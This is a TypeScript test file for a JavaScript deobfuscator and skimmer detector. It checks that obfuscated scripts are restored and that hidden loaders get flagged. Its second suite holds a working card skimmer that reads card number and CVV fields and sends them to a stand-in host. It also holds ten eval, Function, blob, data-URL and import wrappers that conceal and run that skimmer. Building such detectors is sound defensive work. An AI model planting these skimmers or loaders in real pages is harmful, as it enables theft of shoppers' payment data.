import JavaScriptObfuscator from 'javascript-obfuscator';
import { describe, expect, it } from 'vitest';
import { parseText } from './parse.ts';
import { profileText } from './profile-text.ts';
import { type Tree, treeOf } from './tree.ts';

type Options = NonNullable<Parameters<typeof JavaScriptObfuscator.obfuscate>[1]>;

function treeFrom(code: string): Tree {
  const parsed = parseText(code);
  if (typeof parsed === 'string') throw new Error(parsed);
  return treeOf(parsed);
}

const restored = (code: string): string => treeFrom(code).text.replace(/[\s;()]/g, '');

const SCRIPT = `
function show(total) { return total > 1 ? 'many items' : 'one item'; }
document.querySelector('#summary-line').textContent = show(document.forms.length) + ' of order';
window.console.log('written to the summary', atob('c2VjcmV0'), encodeURIComponent('a b'));
`;

describe('a script is restored', () => {
  it.each<[string, Options]>([
    ['plain', { stringArrayEncoding: ['none'] }],
    ['base64', { stringArrayEncoding: ['base64'], splitStrings: true }],
    ['RC4', { stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 3 }],
    ['flattened', { controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 }],
    ['numbers as sums', { numbersToExpressions: true, stringArrayIndexShift: true }],
    ['keys moved out', { transformObjectKeys: true, deadCodeInjection: true }],
    ['guarded', { selfDefending: true, debugProtection: true, disableConsoleOutput: true }],
  ])('after an obfuscator: %s', (_, options) => {
    const code = JavaScriptObfuscator.obfuscate(SCRIPT, {
      ...{
        stringArray: true,
        stringArrayThreshold: 1,
        stringArrayRotate: true,
        stringArrayEncoding: ['rc4'],
      },
      ...{ stringArrayCallsTransform: true, seed: 7 },
      ...options,
    }).getObfuscatedCode();
    expect(code).not.toContain("'#summary-line')");
    const text = restored(code);
    for (const each of ['"#summary-line"', '.querySelector', '"oneitem"']) {
      expect(text).toContain(each);
    }
    // What the author hid by himself is not the tool's.
    expect(text).toContain('atob"c2VjcmV0"');
  });

  it.each([
    [
      'calls that are passed on',
      `var t = { abcde: function (f, a) { return f(a); }, fghij: function (a, b) { return a + b; }, klmno: function (a, b) { return a < b; } }; t.abcde(go, t.fghij(x, y));`,
      'gox+y',
    ],
    [
      'parameters in another order',
      `var t = { abcde: function (a, f) { return f(a); }, fghij: function (a, b) { return b - a; }, klmno: function (a) { return a(); } }; t.abcde(x, go); t.fghij(x, y);`,
      'y-x',
    ],
    [
      'statements in the order of a text',
      `var t = { a: function (f) { return f(); }, b: function (f, a) { return f(a); }, c: function (a, b) { return a + b; } }; var o = '1|0'.split('|'), n = 0; while (!![]) { switch (o[n++]) { case '0': last(); continue; case '1': first(); continue; } break; }`,
      'firstlast',
    ],
    [
      'a table of texts',
      `var _t = ['alpha', 'beta', 'gamma', 'delta', 'eps', 'zeta', 'eta', 'theta', 'iota', 'kappa']; f(_t[0], _t[1], _t[2], _t[3], _t[4], _t[5], _t[6], _t[7], _t[8], _t[9]);`,
      'f"alpha","beta"',
    ],
  ])('%s', (_, code, text) => {
    expect(restored(code)).toContain(text);
  });

  it('leads from a place in it to the script as it is written', () => {
    const code = `var _0x = ['x']; var t = { abcde: function (f, a) { return f(a); }, fghij: function (a, b) { return a + b; }, klmno: function (f) { return f(); } }; t.abcde(target, 1);`;
    const { text, placeOf } = treeFrom(code);
    expect(placeOf?.(text.indexOf('target'))).toBe(code.indexOf('target'));
  });

  it.each([
    [
      'texts that were hidden one by one',
      `var a = 'plain', b = 'words', c = 'stand', d = 'here'; go(atob('c2VjcmV0'))`,
    ],
    [
      'tables with two functions',
      `var math = { add: function (a, b) { return a + b; }, low: function (a) { return -a; } }; math.add(1, 2);`,
    ],
  ])('leaves %s', (_, code) => {
    expect(treeFrom(code).placeOf).toBeNull();
  });
});

describe('code that brings other code', () => {
  const INNER = `setInterval(function(){var c=document.getElementById('card-number').value+document.getElementById('cvv').value;new Image().src='https://metrics.strange-host.localhost/p.gif?d='+btoa(c)},999)`;
  const BASE64 = btoa(INNER);
  const CODES = [...INNER].map((sign) => sign.charCodeAt(0));
  it.each([
    [
      'the window by its other way',
      `var g=Function("return this")();g["ev"+"al"](g["at"+"ob"]("${BASE64}"))`,
    ],
    ['a bound eval', `var f=window.eval.bind(window);f(atob("${BASE64}"))`],
    [
      'bytes',
      `new Function(new TextDecoder().decode(Uint8Array.from(atob("${BASE64}"),c=>c.charCodeAt(0))))()`,
    ],
    [
      'a loop over keys',
      `var p="${CODES.join('|')}".split("|"),o="";for(var k in p)o+=String.fromCharCode(p[k]);eval(o)`,
    ],
    [
      'what is done for each',
      `var o="";[${CODES}].forEach(function(c){o+=String.fromCharCode(c)});eval(o)`,
    ],
    ['a sum of all', `eval([${CODES}].reduce(function(a,c){return a+String.fromCharCode(c)},""))`],
    [
      'a node',
      `var s=document.createElement("script");s.appendChild(document.createTextNode(atob("${BASE64}")));document.head.appendChild(s)`,
    ],
    [
      'a blob',
      `var s=document.createElement("script");s.src=URL.createObjectURL(new Blob([atob("${BASE64}")]));document.body.appendChild(s)`,
    ],
    [
      'a data address',
      `var s=document.createElement("script");s.src="data:text/javascript;base64,${BASE64}";document.body.appendChild(s)`,
    ],
    ['an import', `import("data:text/javascript;base64,${BASE64}")`],
  ])('is read where it is %s', (_, code) => {
    expect(profileText(code).verdict).toBe('skimmer');
  });
});
